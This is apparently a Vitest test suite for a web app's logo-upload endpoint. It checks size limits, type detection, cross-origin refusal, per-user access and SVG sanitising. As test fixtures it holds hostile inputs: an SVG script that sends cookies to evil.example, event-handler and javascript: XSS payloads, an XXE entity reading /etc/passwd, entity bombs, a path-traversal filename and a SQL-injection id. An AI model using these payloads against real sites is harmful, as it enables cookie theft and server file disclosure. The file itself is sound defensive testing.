import { describe, expect, it } from 'vitest';
import {
  EVIL_ORIGIN,
  call,
  expectRestError,
  signedInUser,
  useTestApp,
  type Response,
  type TestApp,
} from '../../test/test-app.js';
import {
  BOUNDARY,
  CLEAN_SVG,
  JPEG_BYTES,
  PNG_SIGNATURE,
  makePng,
  multipartBody,
  uploadLogo,
  type FilePart,
} from '../../test/upload-fixtures.js';
import { countRows, describeOnSqlite } from '../../test/test-db.js';

const MAX = 5 * 1024 * 1024;
const TOO_LARGE = 'Logo image must be less than 5MB';
const WRONG_TYPE = 'Only JPG, PNG and SVG files are allowed';
const UPLOAD_URL = /^\/api\/uploads\/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/;

function logo(data: Buffer | string, filename = 'logo.png', contentType = 'image/png'): FilePart {
  return { field: 'logo', filename, contentType, data };
}

/** Uploads one file and expects 201 { url }. */
async function uploaded(t: TestApp, cookie: string, part: FilePart): Promise<string> {
  const res = await uploadLogo(t.app, [part], { cookie });
  expect(res.statusCode, res.body).toBe(201);
  const body = res.json<{ url: string }>();
  expect(Object.keys(body)).toEqual(['url']);
  expect(body.url).toMatch(UPLOAD_URL);
  return body.url;
}

function expectServedSafely(res: Response, mime: string) {
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toBe(mime);
  expect(res.headers['x-content-type-options']).toBe('nosniff');
  const csp = String(res.headers['content-security-policy'] ?? '');
  expect(csp).toMatch(/\bsandbox\b|default-src 'none'/);
  expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
}

/** What a sanitised SVG must never contain any more. */
const ACTIVE_CONTENT = [
  /<script/i,
  /\son[a-z]+\s*=/i,
  /foreignobject/i,
  /evil\.example/i,
  /javascript:/i,
  /<style/i,
  /\sstyle\s*=/i,
  /<!ENTITY/i,
];

const svgAttacks: { name: string; svg: string; mustKeep?: RegExp }[] = [
  {
    name: 'a <script> element',
    svg:
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="10" fill="#000000"/>' +
      '<script>fetch("https://evil.example/steal?c="+document.cookie)</script></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'an onload= handler on the root',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(document.domain)"><rect width="10" height="10"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'event handlers on a child (onclick, onmouseover)',
    svg: '<svg xmlns="http://www.w3.org/2000/svg"><circle cx="5" cy="5" r="4" onclick="alert(1)" onmouseover="alert(2)"/></svg>',
    mustKeep: /<circle/i,
  },
  {
    name: 'a <foreignObject> with HTML inside',
    svg:
      '<svg xmlns="http://www.w3.org/2000/svg"><rect width="10" height="10"/>' +
      '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">' +
      '<iframe src="https://evil.example/"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'an external <image href="https://evil.example/x.png">',
    svg: '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/x.png" width="10" height="10"/><rect width="1" height="1"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'an external xlink:href',
    svg:
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">' +
      '<image xlink:href="https://evil.example/x.png" width="10" height="10"/><rect width="1" height="1"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'a <use> of an external document',
    svg:
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">' +
      '<use xlink:href="https://evil.example/sprite.svg#icon"/><rect width="1" height="1"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'style="background:url(https://evil…)"',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" style="background:url(https://evil.example/track.png)"><rect width="1" height="1"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'fill="url(https://evil…)"',
    svg: '<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1" fill="url(https://evil.example/p.svg#g)"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'a <style> element importing a remote sheet',
    svg: '<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css); rect { fill: red }</style><rect width="1" height="1"/></svg>',
    mustKeep: /<rect/i,
  },
  {
    name: 'a javascript: link',
    svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="1" height="1"/></a></svg>',
  },
  {
    name: 'an <animate> that sets href to javascript:',
    svg: '<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:alert(1)"/><text x="1" y="5">x</text></a><rect width="1" height="1"/></svg>',
    mustKeep: /<rect/i,
  },
];

describeOnSqlite('uploads REST paths', (getDb) => {
  describe('POST /api/upload/logo', () => {
    const t = useTestApp(getDb);

    it.each([
      ['a real PNG', () => makePng(4, 4), 'logo.png', 'image/png', 'image/png'],
      ['a JPEG', () => JPEG_BYTES, 'photo.jpg', 'image/jpeg', 'image/jpeg'],
      ['a clean SVG', () => Buffer.from(CLEAN_SVG), 'logo.svg', 'image/svg+xml', 'image/svg+xml'],
    ] as const)(
      'stores %s: 201 { url } and one row owned by the caller',
      async (_n, bytes, file, declared, mime) => {
        const { user, cookie } = await signedInUser(t(), 'uploader');
        const url = await uploaded(t(), cookie, logo(bytes(), file, declared));
        const row = await t()
          .db.selectFrom('uploads')
          .selectAll()
          .where('id', '=', url.split('/').pop()!)
          .executeTakeFirstOrThrow();
        expect(row.user_id).toBe(user.id);
        expect(row.kind).toBe('logo');
        expect(row.mime).toBe(mime);
        expect(await countRows(t().db, 'uploads')).toBe(1);
      },
    );

    it('gives every upload its own server-made name, whatever the file was called', async () => {
      const { cookie } = await signedInUser(t(), 'namer');
      const a = await uploaded(t(), cookie, logo(makePng(), '../../etc/passwd'));
      const b = await uploaded(t(), cookie, logo(makePng(), '../../etc/passwd'));
      expect(a).not.toBe(b);
      expect(a).not.toContain('passwd');
    });

    it.each([
      ['named logo.svg, declared image/svg+xml', 'logo.svg', 'image/svg+xml'],
      ['named logo.jpg, declared image/jpeg', 'logo.jpg', 'image/jpeg'],
      ['named logo.html, declared text/html', 'logo.html', 'text/html'],
    ])(
      'decides the type from the bytes: a PNG %s is stored and served as image/png',
      async (_n, file, declared) => {
        const { cookie } = await signedInUser(t(), 'sniffer');
        const png = makePng(3, 3);
        const url = await uploaded(t(), cookie, logo(png, file, declared));
        const res = await call(t().app, 'GET', url, { cookie });
        expectServedSafely(res, 'image/png');
        expect(res.rawPayload.equals(png)).toBe(true);
      },
    );

    it.each([
      ['a text file named logo.png', 'just some words, not an image\n'],
      ['an HTML page named logo.png', '<!doctype html><html><body><script>alert(1)</script></body></html>'],
      ['a GIF', Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1')],
      ['a PDF', '%PDF-1.7\n1 0 obj <<>> endobj\n'],
      ['a WebP', Buffer.concat([Buffer.from('RIFF'), Buffer.alloc(4), Buffer.from('WEBPVP8 ')])],
      ['an empty file', Buffer.alloc(0)],
      ['a truncated PNG signature', PNG_SIGNATURE.subarray(0, 5)],
      ['an XML document that is not an SVG', '<?xml version="1.0"?><html><script>alert(1)</script></html>'],
    ])('refuses %s with 415 and stores nothing', async (_n, data) => {
      const { cookie } = await signedInUser(t(), 'refused');
      const res = await uploadLogo(t().app, [logo(data, 'logo.png', 'image/png')], { cookie });
      const body = expectRestError(res, 415, 'UNSUPPORTED_MEDIA_TYPE');
      expect(body.message).toBe(WRONG_TYPE);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('accepts a file of exactly 5 MB', async () => {
      const { cookie } = await signedInUser(t(), 'exact');
      const data = Buffer.concat([makePng(), Buffer.alloc(MAX - makePng().length)]);
      expect(data.length).toBe(MAX);
      const url = await uploaded(t(), cookie, logo(data));
      const row = await t()
        .db.selectFrom('uploads')
        .select(['size'])
        .where('id', '=', url.split('/').pop()!)
        .executeTakeFirstOrThrow();
      expect(Number(row.size)).toBe(MAX);
    });

    it('refuses 5 MB + 1 byte with 413 and stores nothing', async () => {
      const { cookie } = await signedInUser(t(), 'toolarge');
      const data = Buffer.concat([makePng(), Buffer.alloc(MAX + 1 - makePng().length)]);
      expect(data.length).toBe(MAX + 1);
      const res = await uploadLogo(t().app, [logo(data)], { cookie });
      const body = expectRestError(res, 413, 'PAYLOAD_TOO_LARGE');
      expect(body.message).toBe(TOO_LARGE);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('refuses a file far over the limit (12 MB) with 413 and stores nothing', async () => {
      const { cookie } = await signedInUser(t(), 'huge');
      const res = await uploadLogo(
        t().app,
        [logo(Buffer.concat([makePng(), Buffer.alloc(12 * 1024 * 1024)]))],
        {
          cookie,
        },
      );
      expect(expectRestError(res, 413).message).toBe(TOO_LARGE);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it.each([
      [
        'a wrong field name',
        [{ field: 'image', filename: 'logo.png', contentType: 'image/png', data: makePng() }],
      ],
      [
        'the profile picture field',
        [{ field: 'profilePicture', filename: 'a.png', contentType: 'image/png', data: makePng() }],
      ],
    ])('refuses %s with 400 naming the field `logo`', async (_n, parts) => {
      const { cookie } = await signedInUser(t(), 'wrongfield');
      const res = await uploadLogo(t().app, parts, { cookie });
      const body = expectRestError(res, 400, 'BAD_REQUEST');
      expect(body.message).toContain('logo');
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('refuses a multipart body with no file part at all with 400', async () => {
      const { cookie } = await signedInUser(t(), 'nofile');
      const res = await call(t().app, 'POST', '/api/upload/logo', {
        cookie,
        payload: multipartBody([]),
        headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
      });
      expect(res.statusCode).toBeGreaterThanOrEqual(400);
      expect(res.statusCode).toBeLessThan(500);
      expectRestError(res, res.statusCode);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('stores one image when two files are sent', async () => {
      const { cookie } = await signedInUser(t(), 'twofiles');
      const res = await uploadLogo(t().app, [logo(makePng()), logo(makePng())], { cookie });
      expect(res.statusCode).toBeLessThan(500);
      expect(await countRows(t().db, 'uploads')).toBeLessThanOrEqual(1);
    });

    it('refuses a text field sent before the file with 400 and stores nothing', async () => {
      const { cookie } = await signedInUser(t(), 'fieldfirst');
      const res = await call(t().app, 'POST', '/api/upload/logo', {
        cookie,
        payload: multipartBody([{ field: 'name', value: 'my logo' }, logo(makePng())]),
        headers: { 'content-type': `multipart/form-data; boundary=${BOUNDARY}` },
      });
      expectRestError(res, 400, 'BAD_REQUEST');
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it.each([
      [
        'a multipart body cut off in the middle of the file',
        `multipart/form-data; boundary=${BOUNDARY}`,
        () => multipartBody([logo(makePng(8, 8))]).subarray(0, 150),
      ],
      ['a multipart content type without a boundary', 'multipart/form-data', () => Buffer.from('garbage')],
      [
        'a body that does not use the declared boundary',
        'multipart/form-data; boundary=other-boundary',
        () => multipartBody([logo(makePng())]),
      ],
    ])('answers %s with a 4xx (never 500) and stores nothing', async (_n, contentType, payload) => {
      const { cookie } = await signedInUser(t(), 'malformed');
      const res = await call(t().app, 'POST', '/api/upload/logo', {
        cookie,
        payload: payload(),
        headers: { 'content-type': contentType },
      });
      expect(res.statusCode, res.body).toBeGreaterThanOrEqual(400);
      expect(res.statusCode, res.body).toBeLessThan(500);
      expectRestError(res, res.statusCode);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it.each([
      ['a JSON body', 'application/json', JSON.stringify({ logo: 'iVBORw0KGgo=' })],
      ['a raw image/png body', 'image/png', makePng()],
      ['a form-encoded body', 'application/x-www-form-urlencoded', 'logo=abc'],
      ['a text/plain body', 'text/plain', 'logo'],
    ])('refuses %s (not multipart) with 415', async (_n, contentType, payload) => {
      const { cookie } = await signedInUser(t(), 'notmultipart');
      const res = await call(t().app, 'POST', '/api/upload/logo', {
        cookie,
        payload,
        headers: { 'content-type': contentType },
      });
      expectRestError(res, 415, 'UNSUPPORTED_MEDIA_TYPE');
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('answers 401 when signed out and stores nothing', async () => {
      const res = await uploadLogo(t().app, [logo(makePng())]);
      expectRestError(res, 401, 'NOT_SIGNED_IN');
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('refuses a cross-origin upload (Origin: https://evil.example) with 403 and stores nothing', async () => {
      const { cookie } = await signedInUser(t(), 'csrf');
      const res = await uploadLogo(t().app, [logo(makePng())], { cookie, headers: { origin: EVIL_ORIGIN } });
      expectRestError(res, 403, 'CROSS_SITE_REFUSED');
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('refuses Sec-Fetch-Site: cross-site without an Origin with 403', async () => {
      const { cookie } = await signedInUser(t(), 'csrf2');
      const res = await uploadLogo(t().app, [logo(makePng())], {
        cookie,
        headers: { 'sec-fetch-site': 'cross-site' },
      });
      expectRestError(res, 403);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });

    it('accepts an upload whose Origin is PUBLIC_URL', async () => {
      const { cookie } = await signedInUser(t(), 'sameorigin');
      const res = await uploadLogo(t().app, [logo(makePng())], {
        cookie,
        headers: { origin: new URL(t().config.publicUrl).origin },
      });
      expect(res.statusCode, res.body).toBe(201);
    });

    describe('SVG sanitising', () => {
      it.each(svgAttacks)('stores an SVG with $name sanitised: none of it is served back', async (c) => {
        const { cookie } = await signedInUser(t(), 'svgattack');
        const url = await uploaded(t(), cookie, logo(c.svg, 'logo.svg', 'image/svg+xml'));
        const res = await call(t().app, 'GET', url, { cookie });
        expectServedSafely(res, 'image/svg+xml');
        const served = res.body;
        expect(served).toMatch(/^\s*<svg[\s>]/i);
        for (const pattern of ACTIVE_CONTENT) expect(served).not.toMatch(pattern);
        if (c.mustKeep) expect(served).toMatch(c.mustKeep);
        // What is stored is what is served: the database never holds the active parts either.
        const row = await t()
          .db.selectFrom('uploads')
          .select(['data', 'size'])
          .where('id', '=', url.split('/').pop()!)
          .executeTakeFirstOrThrow();
        expect(Buffer.from(row.data).toString('utf8')).toBe(served);
        expect(Number(row.size)).toBe(Buffer.byteLength(served));
      });

      it('keeps the drawing of a clean SVG, including in-document references (#id)', async () => {
        const { cookie } = await signedInUser(t(), 'cleansvg');
        const svg =
          '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">' +
          '<defs><linearGradient id="g"><stop offset="0" stop-color="#000000"/></linearGradient></defs>' +
          '<rect width="10" height="10" fill="url(#g)"/><path d="M1 1L9 9" stroke="#FFFFFF"/></svg>';
        const url = await uploaded(t(), cookie, logo(svg, 'logo.svg', 'image/svg+xml'));
        const res = await call(t().app, 'GET', url, { cookie });
        expectServedSafely(res, 'image/svg+xml');
        expect(res.body).toMatch(/<lineargradient/i);
        expect(res.body).toContain('fill="url(#g)"');
        expect(res.body).toMatch(/<path/i);
      });

      it('accepts a clean SVG that starts with an XML declaration (as editors write them)', async () => {
        const { cookie } = await signedInUser(t(), 'xmldecl');
        const svg = `<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n${CLEAN_SVG}`;
        const url = await uploaded(t(), cookie, logo(svg, 'logo.svg', 'image/svg+xml'));
        const res = await call(t().app, 'GET', url, { cookie });
        expectServedSafely(res, 'image/svg+xml');
        expect(res.body).toMatch(/<rect/i);
      });

      it.each([
        [
          'an entity bomb (<!DOCTYPE svg [<!ENTITY …>]>)',
          '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&c;</text></svg>',
        ],
        [
          'a DOCTYPE without XML declaration',
          '<!DOCTYPE svg [<!ENTITY x "y">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>',
        ],
        [
          'an external entity (XXE)',
          '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>',
        ],
        [
          'a billion-laughs DOCTYPE named lolz',
          '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>',
        ],
      ])('refuses %s with 415 and stores nothing', async (_n, svg) => {
        const { cookie } = await signedInUser(t(), 'entities');
        const res = await uploadLogo(t().app, [logo(svg, 'logo.svg', 'image/svg+xml')], { cookie });
        expectRestError(res, 415, 'UNSUPPORTED_MEDIA_TYPE');
        expect(await countRows(t().db, 'uploads')).toBe(0);
      });
    });
  });

  describe('GET /api/uploads/{id}', () => {
    const t = useTestApp(getDb);

    it.each([
      ['PNG', () => makePng(5, 5), 'image/png'],
      ['JPEG', () => JPEG_BYTES, 'image/jpeg'],
      ['SVG', () => Buffer.from(CLEAN_SVG), 'image/svg+xml'],
    ] as const)(
      'serves the owner their %s with our own Content-Type, nosniff and a CSP',
      async (_n, bytes, mime) => {
        const { cookie } = await signedInUser(t(), 'owner');
        const data = bytes();
        const url = await uploaded(t(), cookie, logo(data, 'file.bin', 'application/octet-stream'));
        const res = await call(t().app, 'GET', url, { cookie });
        expectServedSafely(res, mime);
        if (mime !== 'image/svg+xml') expect(res.rawPayload.equals(data)).toBe(true);
        else expect(res.body).toMatch(/<rect/i);
      },
    );

    it("answers 404 for another user's upload, exactly like a missing one", async () => {
      const owner = await signedInUser(t(), 'owner2');
      const other = await signedInUser(t(), 'intruder');
      const url = await uploaded(t(), owner.cookie, logo(makePng()));
      const foreign = await call(t().app, 'GET', url, { cookie: other.cookie });
      const missing = await call(t().app, 'GET', '/api/uploads/00000000-0000-4000-8000-000000000000', {
        cookie: other.cookie,
      });
      expectRestError(foreign, 404, 'NOT_FOUND');
      expectRestError(missing, 404, 'NOT_FOUND');
      expect(foreign.json()).toEqual(missing.json());
      expect(foreign.rawPayload.includes(PNG_SIGNATURE)).toBe(false);
    });

    it.each(['not-a-uuid', '1', "1' or '1'='1", 'x'.repeat(300)])(
      'answers 404 for the malformed id %s',
      async (id) => {
        const { cookie } = await signedInUser(t(), 'malformed');
        const res = await call(t().app, 'GET', `/api/uploads/${encodeURIComponent(id)}`, { cookie });
        expectRestError(res, 404, 'NOT_FOUND');
      },
    );

    it('answers 401 when signed out', async () => {
      const { cookie } = await signedInUser(t(), 'owner3');
      const url = await uploaded(t(), cookie, logo(makePng()));
      const res = await call(t().app, 'GET', url);
      expectRestError(res, 401, 'NOT_SIGNED_IN');
    });

    it('is a read: GET never changes what is stored', async () => {
      const { cookie } = await signedInUser(t(), 'reader');
      const url = await uploaded(t(), cookie, logo(makePng()));
      for (let i = 0; i < 3; i++) expect((await call(t().app, 'GET', url, { cookie })).statusCode).toBe(200);
      expect(await countRows(t().db, 'uploads')).toBe(1);
    });
  });

  describe('uploads and other methods', () => {
    const t = useTestApp(getDb);

    it("DELETE /api/uploads/{id} deletes the caller's own upload; PATCH is no path (JSON 404)", async () => {
      const { cookie } = await signedInUser(t(), 'deleter');
      const url = await uploaded(t(), cookie, logo(makePng()));
      expectRestError(await call(t().app, 'PATCH', url, { cookie, json: {} }), 404);
      expect(await countRows(t().db, 'uploads')).toBe(1);
      const res = await call(t().app, 'DELETE', url, { cookie });
      expect(res.statusCode).toBe(200);
      expect(await countRows(t().db, 'uploads')).toBe(0);
    });
  });
});
